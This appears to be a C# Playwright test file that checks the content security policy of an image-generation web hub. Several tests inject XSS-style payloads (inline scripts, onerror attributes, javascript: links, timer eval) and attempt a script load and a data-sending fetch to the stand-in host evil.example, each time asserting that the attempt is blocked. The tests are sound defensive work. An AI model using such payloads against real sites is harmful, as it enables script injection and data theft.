using Microsoft.Playwright;
using Shouldly;
using Xunit;

namespace DiffusionHub.Browser;

/// <summary>
/// The content security policy in a real browser: no page of the hub's breaks it, and what a stranger would slip in does not run. Every
/// other browser test holds to it too: a violation is an error in the console.
/// </summary>
public sealed class ContentPolicyTests(HubFixture fixture) : BrowserTest(fixture)
{
    private const string Listen = """
        window.violations = [];
        document.addEventListener("securitypolicyviolation", e => window.violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber} ${e.sample}`));
        """;

    [Theory]
    [InlineData("/", "dark")]
    [InlineData("/", "light")]
    [InlineData("/gallery", "dark")]
    [InlineData("/gallery", "light")]
    [InlineData("/gallery/newest", "dark")]
    [InlineData("/gallery/newest", "light")]
    [InlineData("/admin/queue", "dark")]
    [InlineData("/admin/queue", "light")]
    [InlineData("/admin/lanes", "dark")]
    [InlineData("/admin/people", "light")]
    [InlineData("/admin/health", "dark")]
    [InlineData("/admin/workers", "light")]
    [InlineData("/admin/models", "dark")]
    [InlineData("/admin/models", "light")]
    [InlineData("/admin/housekeeping", "dark")]
    [InlineData("/nowhere", "light")]
    public async Task Page_keeps_to_its_policy(string path, string theme)
    {
        var page = await WatchedAsync(await ResolveAsync(path), theme);
        // Also where a dialog lies over the button.
        await page.GetByRole(AriaRole.Button, new() { Name = "Switch between dark and light" }).DispatchEventAsync("click");
        await page.Locator("html").And(page.Locator($"[data-theme={(theme == "dark" ? "light" : "dark")}]")).WaitForAsync();
        await CleanAsync(page);
    }

    [Fact]
    public async Task Studio_keeps_to_its_policy_while_a_picture_forms_and_a_mask_is_painted_from_a_file()
    {
        var page = await WatchedAsync("/", "dark");
        var prompt = NewPrompt();
        await page.Locator("#init").SetInputFilesAsync(new FilePayload { Name = "start.png", MimeType = "image/png", Buffer = Grey() });
        await page.GetByRole(AriaRole.Button, new() { Name = "Paint a mask" }).ClickAsync();
        var editor = page.GetByRole(AriaRole.Dialog);
        await editor.WaitForAsync();
        await editor.Locator("input[type=file]").SetInputFilesAsync(new FilePayload { Name = "mask.png", MimeType = "image/png", Buffer = Grey() });
        await editor.GetByRole(AriaRole.Button, new() { Name = "Use this mask" }).ClickAsync();
        await page.GetByRole(AriaRole.Button, new() { Name = "Change the mask" }).WaitForAsync();
        await page.FillAsync(prompt, steps: "20");
        await page.Generate().ClickAsync();
        await page.Cards(prompt).FinishedAsync();
        await CleanAsync(page);
    }

    [Fact]
    public async Task What_a_stranger_slips_in_does_not_run()
    {
        var page = await WatchedAsync("/", "dark");
        Expect("Content Security Policy");
        // By the page's own document, as markup that got into it would; not by the debugger, which the policy does not hold.
        await page.EvaluateAsync("""
            () => new Promise(done => {
              const inline = document.createElement("script");
              inline.textContent = "window.ran = 'inline'";
              document.body.append(inline);
              document.body.insertAdjacentHTML("beforeend", "<img src='data:,x' onerror=\"window.ran = 'attribute'\"><a id='bad' href=\"javascript:window.ran='link'\">x</a><style>body { --slipped: in }</style>");
              document.getElementById("bad").click();
              const elsewhere = document.createElement("script");
              elsewhere.src = "https://evil.example/x.js";
              elsewhere.onerror = () => setTimeout(done, 200);
              document.body.append(elsewhere);
            })
            """);
        (await page.EvaluateAsync<string?>("window.ran ?? null")).ShouldBeNull();
        (await page.EvaluateAsync<string>("getComputedStyle(document.body).getPropertyValue('--slipped')")).ShouldBe("");
        var violations = await page.EvaluateAsync<string[]>("window.violations");
        violations.Count(v => v.StartsWith("script-src", StringComparison.Ordinal)).ShouldBeGreaterThanOrEqualTo(4, string.Join('\n', violations));
        violations.ShouldContain(v => v.StartsWith("style-src-elem", StringComparison.Ordinal));
        (await page.EvaluateAsync<string>("(async () => { try { await fetch('https://evil.example/?secret'); return 'sent'; } catch (e) { return 'refused'; } })()")).ShouldBe("refused");
    }

    [Fact]
    public async Task Eval_does_not_run()
    {
        var page = await WatchedAsync("/", "dark");
        Expect("Content Security Policy");
        // A timer's text is evaluated by the page itself, whoever set the timer.
        (await page.EvaluateAsync<string>("new Promise(done => { document.addEventListener('securitypolicyviolation', e => done(e.blockedURI)); setTimeout(\"window.ran = 'eval'\", 0); setTimeout(() => done('ran'), 5000); })")).ShouldBe("eval");
        (await page.EvaluateAsync<string?>("window.ran ?? null")).ShouldBeNull();
    }

    [Fact]
    public async Task Prompt_that_is_markup_is_shown_as_text_everywhere()
    {
        var page = await WatchedAsync("/", "dark");
        var prompt = NewPrompt("<img src=x onerror=alert(1)><script>alert(2)</script>");
        page.Dialog += (_, dialog) => throw new InvalidOperationException(dialog.Message);
        await page.FillAsync(prompt, steps: "1");
        await page.Generate().ClickAsync();
        await page.Cards(prompt).FinishedAsync();
        foreach (var path in new[] { "/gallery/newest", "/admin/queue" })
        {
            await page.GotoAsync(await ResolveAsync(path));
            await page.LiveAsync();
            await page.GetByText(prompt).First.WaitForAsync();
            await CleanAsync(page);
        }
    }

    private async Task<IPage> WatchedAsync(string path, string theme)
    {
        var page = await OpenAsync(Screen.Desktop, "/nowhere", theme);
        await page.Context.AddInitScriptAsync(Listen);
        await page.GotoAsync(path);
        await page.LiveAsync();
        return page;
    }

    private static async Task CleanAsync(IPage page) => (await page.EvaluateAsync<string[]>("window.violations")).ShouldBeEmpty();

    private static byte[] Grey() => Imaging.ImageCodec.Png(new Imaging.RgbImage(128, 128, [.. Enumerable.Repeat((byte)200, 128 * 128 * 3)]));

    private async Task<string> ResolveAsync(string path)
    {
        if (path.Contains("newest", StringComparison.Ordinal) && (await Fixture.PicturesAsync(1)).Count == 0)
        {
            var page = await OpenAsync(Screen.Desktop);
            var prompt = NewPrompt();
            await Fixture.SubmitAsync(prompt);
            await page.Cards(prompt).FinishedAsync();
        }

        return path.Contains("newest", StringComparison.Ordinal) ? path.Replace("newest", (await Fixture.PicturesAsync(1))[0].GetProperty("id").GetString(), StringComparison.Ordinal) : path;
    }
}
